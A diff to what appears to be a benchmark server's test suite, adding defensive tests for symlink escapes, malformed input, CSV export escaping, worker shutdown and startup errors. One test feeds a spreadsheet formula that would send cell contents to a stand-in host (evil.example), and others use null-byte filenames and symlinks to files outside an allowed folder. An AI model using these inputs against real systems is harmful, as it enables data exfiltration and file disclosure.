@@ -24,7 +24,7 @@ class Recorder:
     """An OpenAI-compatible endpoint that records each request's Authorization header
     and answers a completion, or (forbidden=True) a 403 with an internal HTML page."""
 
-    def __init__(self, forbidden: bool = False):
+    def __init__(self, forbidden: bool = False, reply: str = "goulash"):
         self.auth: list[str | None] = []
         recorder = self
 
@@ -38,7 +38,7 @@ class Recorder:
                 if forbidden:
                     body, status, kind = SECRET_PAGE.encode(), 403, "text/html"
                 else:
-                    body = json.dumps({"choices": [{"message": {"content": "goulash"}}],
+                    body = json.dumps({"choices": [{"message": {"content": reply}}],
                                        "usage": {"prompt_tokens": 3,
                                                  "completion_tokens": 1}}).encode()
                     status, kind = 200, "application/json"
@@ -295,3 +295,263 @@ def test_foreign_host_and_content_types_are_refused(idle_server):
                                           "Origin": server.url}, job)
     assert status == 201
     assert server.request("GET", "/api/jobs")[1]["data"]["total"] == 1
+
+
+# --- files behind symbolic links ----------------------------------------------------------
+
+def test_a_symlinked_file_inside_an_allowed_folder_is_not_read(with_tiny, tmp_path):
+    datasets = tmp_path / "datasets"
+    (datasets / "mine").mkdir(parents=True)
+    outside = tmp_path / "private"
+    outside.mkdir()
+    secret = outside / "notes.jsonl"
+    secret.write_text(json.dumps({"question": "SECRET-OUTSIDE-TEXT", "answer": "#### 4"}) + "\n")
+    (datasets / "mine" / "test.jsonl").symlink_to(secret)
+    (datasets / "story.txt").symlink_to(outside / "notes.jsonl")
+    fine = datasets / "fine"
+    fine.mkdir()
+    (fine / "rows.jsonl").write_text(json.dumps({"question": "1+3?", "answer": "#### 4"}) + "\n")
+    (fine / "test.jsonl").symlink_to(fine / "rows.jsonl")  # a link that stays inside is fine
+
+    server = LiveServer(with_tiny, {"LBS_DATASETS_DIR": str(datasets)}).start()
+    try:
+        def submit(params: dict, dataset: str = "gsm8k"):
+            return server.request("POST", "/api/jobs", {
+                "model": "builtin:tiny", "dataset": dataset, "params": params})
+
+        status, body = submit({"data_dir": "mine", "max_new_tokens": 4})
+        if status == 201:  # refused by the worker as it opens the file
+            job = server.wait_for(body["data"]["job"]["id"], ("succeeded", "failed"))
+            assert job["state"] == "failed", job
+            assert "refused" in job["error"] and "symbolic link" in job["error"]
+            samples = server.request("GET", f"/api/jobs/{job['id']}/samples")[1]
+            assert "SECRET-OUTSIDE-TEXT" not in json.dumps(samples)
+        else:
+            assert status == 403 and body["error"]["details"][0]["field"] == "params.data_dir"
+        status, body = submit({"haystack": "story.txt", **NIAH}, "needle_in_haystack")
+        assert status == 403 and body["error"]["details"][0]["field"] == "params.haystack"
+
+        status, body = submit({"data_dir": "fine", "max_new_tokens": 4})
+        assert status == 201, body
+        job = server.wait_for(body["data"]["job"]["id"], ("succeeded", "failed"))
+        assert job["state"] == "succeeded", job["error"]
+        assert "SECRET-OUTSIDE-TEXT" not in server.log()
+    finally:
+        server.stop()
+
+
+# --- odd input: 4xx naming the field, never 500 ------------------------------------------
+
+def _raw(server, method: str, path: str, body: bytes | None = None,
+         headers: dict[str, str] | None = None) -> tuple[int, dict]:
+    import http.client
+
+    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
+    conn.request(method, path, body=body, headers={"Content-Type": "application/json",
+                                                   **(headers or {})})
+    res = conn.getresponse()
+    answer = json.loads(res.read() or b"null")
+    conn.close()
+    return res.status, answer
+
+
+def _fields(answer: dict) -> list[str]:
+    return [d["field"] for d in answer["error"]["details"]]
+
+
+def test_odd_input_is_a_4xx_naming_the_field(idle_server):
+    server = idle_server
+    deep = b'{"model": "builtin:tiny", "dataset": "needle_in_haystack", "params": {"x": ' + \
+        b"[" * 1000 + b"]" * 1000 + b"}}"
+    assert len(deep) < 2100
+    status, body = _raw(server, "POST", "/api/jobs", deep)
+    assert status == 400 and body["error"]["code"] == "too_deep", body
+    deep = b'{"params": {"x": ' + b"[" * 40 + b"]" * 40 + b"}}"
+    status, body = _raw(server, "POST", "/api/jobs", deep)
+    assert status == 400 and _fields(body)[0].startswith("params.x[0]"), body
+
+    def job(params: dict, model: str = "builtin:tiny", dataset: str = "needle_in_haystack"):
+        return json.dumps({"model": model, "dataset": dataset, "params": params}).encode()
+
+    cases = [
+        (job({"haystack": "essays\x00.txt"}), "params.haystack"),
+        (job({"data_dir": "gsm\x00k"}, dataset="gsm8k"), "params.data_dir"),
+        (job({"needle": "\ud800 lone"}), "params.needle"),
+        (job({"haystack": "h" * 300 + ".txt"}), "params.haystack"),
+        (job({"data_dir": "d" * 300}, dataset="gsm8k"), "params.data_dir"),
+        (job({}, model="m" * 300), "model"),
+        (job({}, model="zoo/" + "m" * 300), "model"),
+    ]
+    for payload, field in cases:
+        status, body = _raw(server, "POST", "/api/jobs", payload)
+        assert 400 <= status < 500 and field in _fields(body), (payload[:120], status, body)
+    status, body = _raw(server, "GET", "/api/jobs?model=a%00b")
+    assert status == 422 and _fields(body) == ["model"], body
+    assert "Traceback" not in server.log() and "internal_error" not in server.log()
+
+
+def test_low_severity_input_rules(idle_server):
+    server = idle_server
+    status, body = server.request("POST", "/api/v1/memory/limit?limit_gb=1e-300")
+    assert status == 422 and _fields(body) == ["limit_gb"], body
+    base = {"model": "builtin:tiny", "dataset": "needle_in_haystack", "params": NIAH}
+    status, body = server.request("POST", "/api/jobs", {**base, "priority": "7"})
+    assert status == 422 and _fields(body) == ["priority"], body
+    status, body = server.request("POST", "/api/jobs", {
+        **base, "params": {**NIAH, "use_chat_template": "yes"}})
+    assert status == 422 and _fields(body) == ["params.use_chat_template"], body
+    status, body = server.request("POST", "/api/gpu/timeout", {"timeout": "300"})
+    assert status == 422 and _fields(body) == ["timeout"], body
+    status, body = server.request("POST", "/api/jobs", {
+        **base, "params": {**NIAH, "needle": "n" * 1_900_000}})
+    assert status == 422 and _fields(body) == ["params.needle"], body
+    status, body = server.request("POST", "/api/jobs", {
+        **base, "params": {**NIAH, "extra": ["n" * 60_000] * 30}})
+    assert status == 422 and _fields(body) == ["params"], body
+
+    ids = [server.request("POST", "/api/jobs", {
+        **base, "params": {**NIAH, "needle": f"Needle {i}: " + "x" * 1900}})[1]
+        ["data"]["job"]["id"] for i in range(5)]
+    status, listed = _raw(server, "GET", "/api/jobs?per_page=100")
+    assert status == 200 and len(listed["data"]["jobs"]) == 5
+    assert "x" * 1900 not in json.dumps(listed)  # summaries: no params in every poll
+    assert all("params" not in j and "events" not in j for j in listed["data"]["jobs"])
+    one = server.request("GET", f"/api/jobs/{ids[0]}")[1]["data"]["job"]
+    assert one["params"]["needle"].startswith("Needle 0")
+
+
+def test_csv_export_escapes_formulas(with_tiny):
+    reply = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    formula = Recorder(reply=reply)
+    server = LiveServer(with_tiny).start()
+    try:
+        status, body = server.request("POST", "/api/jobs", {
+            "model": "openai:tiny", "dataset": "needle_in_haystack", "params": NIAH,
+            "api": {"base_url": formula.url, "max_retries": 0}})
+        job = server.wait_for(body["data"]["job"]["id"], ("succeeded", "failed"))
+        assert job["state"] == "succeeded", job["error"]
+        import csv
+        import io
+        import urllib.request
+
+        with urllib.request.urlopen(f"{server.url}/api/jobs/{job['id']}/export?format=csv",
+                                    timeout=30) as res:
+            rows = list(csv.DictReader(io.StringIO(res.read().decode())))
+        assert rows[0]["prediction"] == "'" + reply
+        assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values()
+                       if v and not v.lstrip("-").replace(".", "").isdigit())
+    finally:
+        server.stop()
+        formula.stop()
+
+
+# --- processes, start-up, persisted settings ----------------------------------------------
+
+def test_workers_die_with_a_killed_server(with_tiny):
+    import os
+    import signal
+
+    import psutil
+
+    server = LiveServer(with_tiny).start()
+    try:
+        pid = server.wait_for_worker()["pid"]
+        assert psutil.Process(pid).ppid() == server.proc.pid
+        os.kill(server.proc.pid, signal.SIGKILL)
+        server.proc.wait(10)
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline:
+            try:
+                if psutil.Process(pid).status() == psutil.STATUS_ZOMBIE:
+                    break
+            except psutil.NoSuchProcess:
+                break
+            time.sleep(0.2)
+        else:
+            os.kill(pid, signal.SIGKILL)
+            raise AssertionError("the worker outlived its SIGKILLed server by 30 s")
+    finally:
+        server.stop()
+
+
+def _start_fails(data_dir, env: dict[str, str]) -> str:
+    import os
+    import subprocess
+    import sys
+
+    from tests.conftest import ROOT
+
+    proc = subprocess.run([sys.executable, "-m", "backend.server", "--no-workers"], cwd=ROOT,
+                          env={**os.environ, "LBS_DATA_DIR": str(data_dir), **env},
+                          capture_output=True, text=True, timeout=60)
+    assert proc.returncode == 2, proc.stderr
+    assert "Traceback" not in proc.stderr
+    errors = [line for line in proc.stderr.splitlines() if line.startswith("error:")]
+    assert len(errors) == 1, proc.stderr
+    return proc.stderr
+
+
+def test_start_up_problems_are_one_sentence(tmp_path):
+    import sqlite3
+
+    corrupt = tmp_path / "corrupt"
+    corrupt.mkdir()
+    (corrupt / "lbs.sqlite3").write_bytes(b"this is not a database file at all" * 40)
+    assert "file is not a database" in _start_fails(corrupt, {"LBS_PORT": "0"})
+
+    readonly = tmp_path / "readonly"
+    readonly.mkdir()
+    sqlite3.connect(readonly / "lbs.sqlite3").execute("CREATE TABLE t (x)").connection.close()
+    url = f"sqlite:///file:{readonly / 'lbs.sqlite3'}?mode=ro&uri=true"
+    assert "readonly database" in _start_fails(tmp_path, {"LBS_DATABASE_URL": url,
+                                                          "LBS_PORT": "0"})
+
+    url = "postgresql+psycopg://lbs:pa55-w0rd-secret@127.0.0.1:1/lbs"
+    out = _start_fails(tmp_path, {"LBS_DATABASE_URL": url, "LBS_PORT": "0"})
+    assert "lbs:***@127.0.0.1:1/lbs" in out and "pa55-w0rd-secret" not in out
+
+    with socket.socket() as busy:
+        busy.bind(("127.0.0.1", 0))
+        busy.listen(1)
+        out = _start_fails(tmp_path / "fresh", {"LBS_PORT": str(busy.getsockname()[1])})
+    assert "already in use" in out
+
+
+def test_runtime_settings_are_kept_and_applied_by_starting_workers(idle_server):
+    import os
+    import subprocess
+    import sys
+
+    from backend.control import live_statuses
+    from backend.db import dispose_engines, session_factory
+    from tests.conftest import ROOT
+
+    server = idle_server
+    status, body = server.request("POST", "/api/gpu/timeout", {"timeout": 321})
+    assert status == 202 and body["data"]["stored"] is True, body
+    status, body = server.request("POST", "/api/v1/memory/limit?limit_gb=2")
+    assert status == 202 and body["data"]["memory_limit"] == 2 * 1024**3, body
+
+    worker = subprocess.Popen([sys.executable, "-m", "backend.worker"], cwd=ROOT,
+                              env=server.env, stdout=subprocess.DEVNULL,
+                              stderr=subprocess.DEVNULL)
+    factory = session_factory(f"sqlite:///{server.data_dir / 'lbs.sqlite3'}")
+    try:
+        deadline = time.monotonic() + 90
+        seen = None
+        while time.monotonic() < deadline:
+            statuses = live_statuses(factory, 30.0)
+            if statuses:
+                seen = statuses[0][1]
+                if seen["idle_timeout_seconds"] == 321 and seen["memory_limit"] == 2 * 1024**3:
+                    break
+            time.sleep(0.3)
+        else:
+            raise AssertionError(f"the worker did not apply the stored settings: {seen}")
+        # with a worker running the change is applied at once, and stored for the next
+        status, body = server.request("POST", "/api/gpu/timeout", {"timeout": 400})
+        assert status == 200 and body["data"]["workers"][0]["ok"], body
+    finally:
+        worker.terminate()
+        worker.wait(30)
+        dispose_engines()
